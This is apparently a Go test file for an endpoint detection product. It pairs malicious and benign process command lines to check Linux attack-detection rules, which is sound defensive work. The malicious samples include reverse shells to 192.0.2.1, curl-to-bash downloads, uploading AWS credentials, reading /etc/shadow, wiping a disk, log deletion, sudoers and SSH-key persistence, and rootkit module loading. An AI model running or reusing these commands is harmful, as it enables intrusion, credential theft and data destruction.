package content

import "github.com/vedette-edr/vedette/analyzer/sigma/sigmatest"

// processEvents are of rules for the starts of programs.
func processEvents(tr *trial) {
	f := func(name string, hit, miss *sigmatest.Event) {
		tr.Helper()
		tr.rule(name, events(hit), events(miss))
	}
	const dpkg = "/bin/sh /var/lib/dpkg/info/x.postinst configure"

	f("account_with_uid_zero",
		process("/usr/sbin/useradd", "useradd -o -u 0 toor"),
		process("/usr/sbin/useradd", "useradd -u 1000 -g 0 alice"))
	f("archive_of_credentials",
		process("/usr/bin/tar", "tar czf /tmp/k.tgz /root/.ssh"),
		process("/usr/bin/tar", "tar xzf backup.tgz home/alice/.ssh"))
	f("audit_rules_removed",
		process("/usr/sbin/auditctl", "auditctl -D"),
		process("/usr/sbin/auditctl", "/sbin/auditctl -R /etc/audit/audit.rules"))
	f("capability_granted",
		process("/usr/sbin/setcap", "setcap cap_setuid+ep /tmp/python3"),
		process("/usr/sbin/setcap", "setcap cap_net_raw+ep /usr/bin/ping"))
	f("container_with_host_access",
		process("/usr/bin/docker", "docker run -it -v /:/host alpine sh"),
		process("/usr/bin/docker", "docker run -v /:/host:ro --pid=host node-exporter"))
	f("credential_search",
		process("/usr/bin/find", "find / -name id_rsa"),
		process("/usr/bin/grep", "grep -c PRIVATE KEY one.pem"))
	f("cron_job_installed",
		process("/usr/bin/dash", "sh -c (crontab -l; echo x) | crontab -"),
		process("/usr/bin/crontab", "crontab -u root -l"))
	f("crypto_miner",
		process("/tmp/.x/kworker", "./kworker -o stratum+tcp://pool.example:3333"),
		process("/usr/bin/grep", "grep -r stratum+tcp:// /home"))
	f("debugger_injection",
		process("/usr/bin/gdb", `gdb -p 42 -batch -ex call (int)system("id")`),
		process("/usr/bin/gdb", "gdb -p 42 -batch -ex bt"))
	f("decoded_text_to_shell",
		process("/usr/bin/bash", "bash -c echo aWQK | base64 -d | bash"),
		process("/usr/bin/bash", "bash -c echo aWQK | base64 -d > id.txt"))
	f("deleted_executable",
		process("/tmp/x", "x", "ExecutableFlags", "deleted writable-by-others"),
		process("/usr/sbin/sshd", "sshd: alice", "ExecutableFlags", "deleted"))
	f("disk_overwritten",
		process("/usr/bin/dd", "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M"),
		process("/usr/bin/dd", "dd if=/dev/zero of=/swapfile bs=1M"))
	f("document_that_is_a_program",
		process("/home/alice/Downloads/Invoice.PDF", "./Invoice.PDF"),
		process("/usr/bin/evince", "evince Invoice.pdf"))
	f("download_to_shell",
		process("/usr/bin/bash", "bash -c curl -fsSL https://example.com/i.sh | sudo -E bash -"),
		process("/usr/bin/bash", "bash -c curl -fsSL https://example.com/x.json | python3 -m json.tool"))
	f("execution_from_hidden_place",
		process("/usr/bin/dash", "/bin/sh /tmp/.x/run", "ScriptPath", "/tmp/.x/run"),
		process("/tmp/.mount_AppAbc/AppRun", "AppRun"))
	f("firewall_flushed",
		process("/usr/sbin/xtables-nft-multi", "iptables -w 5 -F INPUT"),
		process("/usr/sbin/xtables-nft-multi", "iptables -t nat -F DOCKER"))
	f("history_tampering",
		process("/usr/bin/bash", "-bash", "Environment", "HOME=/root\nHISTFILE=/dev/null"),
		process("/usr/bin/bash", "-bash", "Environment", "HOME=/root\nMYSQL_HISTFILE=/dev/null"))
	f("host_namespace_entered",
		process("/usr/bin/nsenter", "nsenter --target 1 --mount sh"),
		process("/usr/bin/nsenter", "nsenter -t 1042 -n ip a"))
	f("immutable_persistence",
		process("/usr/bin/chattr", "chattr -V +i /root/.ssh/authorized_keys"),
		process("/usr/bin/chattr", "chattr +i /etc/resolv.conf"))
	f("interpreter_masquerade",
		process("/usr/bin/perl", "/usr/sbin/apache2 -k start"),
		process("/usr/sbin/apache2", "/usr/sbin/apache2 -k start"))
	f("kernel_helper_changed",
		process("/usr/bin/bash", "sh -c echo /x > /sys/fs/cgroup/rdma/release_agent"),
		process("/usr/bin/bash", "sh -c echo core > /proc/sys/kernel/core_pattern"))
	f("kernel_module_from_writable_path",
		process("/usr/bin/kmod", "insmod /dev/shm/diamorphine.ko"),
		process("/usr/bin/kmod", "modprobe -q dummy"))
	f("kernel_thread_masquerade",
		process("/var/tmp/x", "[kworker/0:0]"),
		process("/usr/bin/[", "[ -f [a-z] ]"))
	f("log_wiped",
		process("/usr/bin/rm", "rm -f /var/log/auth.log"),
		process("/usr/bin/rm", "rm -f /var/log/auth.log.4.gz"))
	f("memfd_execution",
		process("/memfd:x", "x", "ExecutableFlags", "deleted memfd"),
		process("/memfd:runc_cloned:/proc/self/exe", "runc init", "ExecutableFlags", "memfd", "ParentImage", "/usr/bin/containerd-shim-runc-v2"))
	f("named_pipe_shell",
		process("/usr/bin/dash", "sh -c rm f;mkfifo f;cat f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >f"),
		process("/usr/bin/dash", "sh -c mkfifo f; gzip <f >log.gz & make >f"))
	f("netcat_shell",
		process("/usr/bin/ncat", "ncat -lvp 4444 --exec /bin/bash"),
		process("/usr/bin/nc.openbsd", "nc -zv example.com 22"))
	f("password_on_ssh_command_line",
		process("/usr/bin/sshpass", "sshpass -P assphrase -p secret ssh host"),
		process("/usr/bin/sshpass", "sshpass -e ssh -p 2222 host"))
	f("preload_from_writable_path",
		process("/usr/bin/id", "id", "Environment", "HOME=/root\nLD_PRELOAD=libc.so.6:/dev/shm/x.so"),
		process("/usr/bin/id", "id", "Environment", "HOME=/tmp/x\nLD_PRELOAD=libfakeroot-sysv.so"))
	f("process_memory_read",
		process("/usr/bin/dd", "dd if=/proc/812/mem of=out bs=4096"),
		process("/usr/bin/cat", "cat /proc/meminfo"))
	f("profile_payload",
		process("/usr/bin/bash", "bash -c echo 'nohup /tmp/x &' >> /root/.bashrc"),
		process("/usr/bin/bash", "bash -c echo 'export GOPATH=~/go' >> /root/.bashrc"))
	f("reverse_shell_device",
		process("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
		process("/usr/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/8080; cat <&3"))
	f("scripted_reverse_shell",
		process("/usr/bin/python3.11", `python3 -c import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`),
		process("/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())"))
	f("security_service_stopped",
		process("/usr/bin/systemctl", "systemctl disable --now auditd"),
		process("/usr/bin/systemctl", "systemctl stop rsyslog.service", "ParentCommandLine", "/usr/bin/perl /usr/bin/deb-systemd-invoke stop rsyslog.service"))
	f("sensitive_file_uploaded",
		process("/usr/bin/curl", "curl --data-binary @/root/.aws/credentials https://example.com"),
		process("/usr/bin/curl", "curl --data-binary @report.json https://example.com"))
	f("setuid_bit_set",
		process("/usr/bin/chmod", "chmod g=rx,u+s /tmp/bash"),
		process("/usr/bin/chmod", "chmod 4754 /usr/sbin/pppd", "ParentCommandLine", dpkg))
	f("setuid_search",
		process("/usr/bin/find", "find / -perm -u=s -type f"),
		process("/usr/bin/find", "find /srv -perm 0640"))
	f("shadow_file_read",
		process("/usr/bin/base64", "base64 /etc/shadow"),
		process("/usr/bin/cp", "cp -p /etc/shadow shadow.bak", "CurrentDirectory", "/var/backups"))
	f("shell_escape",
		process("/usr/bin/find", "find . -exec /bin/sh -p ; -quit"),
		process("/usr/bin/find", "find . -exec sh -c echo $1 _ {} ;"))
	f("ssh_key_added",
		process("/usr/bin/dash", `sh -c echo ssh-rsa AAAA >> "/root/.ssh/authorized_keys"`),
		process("/usr/bin/chmod", "chmod 600 /root/.ssh/authorized_keys"))
	f("sudo_without_password",
		process("/usr/bin/dash", "sh -c echo x ALL=(ALL) NOPASSWD:ALL | tee -a /etc/sudoers.d/x"),
		process("/usr/bin/dash", "sh -c grep NOPASSWD /etc/sudoers"))
	f("system_preload_changed",
		process("/usr/bin/dash", "sh -c echo /lib/x.so >/etc/ld.so.preload"),
		process("/usr/bin/dash", "sh -c cat /etc/ld.so.preload"))
	f("tar_checkpoint_action",
		process("/usr/bin/tar", "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x.sh *"),
		process("/usr/bin/tar", "tar cf a.tar --checkpoint=1 --checkpoint-action=dot x"))
	f("terminal_upgrade",
		process("/usr/bin/script", "script /dev/null -qc /bin/bash"),
		process("/usr/bin/script", "script -qec bash build.sh /dev/null"))
	f("tunnel_tool",
		process("/tmp/c", "./c client https://192.0.2.1 R:socks"),
		process("/usr/bin/ngrok", "ngrok --help"))
	f("unit_from_writable_path",
		process("/usr/bin/systemctl", "systemctl link /dev/shm/x.service"),
		process("/usr/bin/systemctl", "systemctl link /opt/app/app.service"))
	f("vedette_attacked",
		process("/usr/bin/pgrep", "pkill -9 vedette"),
		process("/usr/bin/pgrep", "pgrep vedette"))
	f("web_server_shell",
		process("/usr/bin/dash", "sh -c -- cat /etc/passwd", "ParentImage", "/usr/sbin/php-fpm8.2"),
		process("/usr/bin/dash", "sh -c -- convert a.png b.png", "ParentImage", "/usr/sbin/php-fpm8.2"))
}
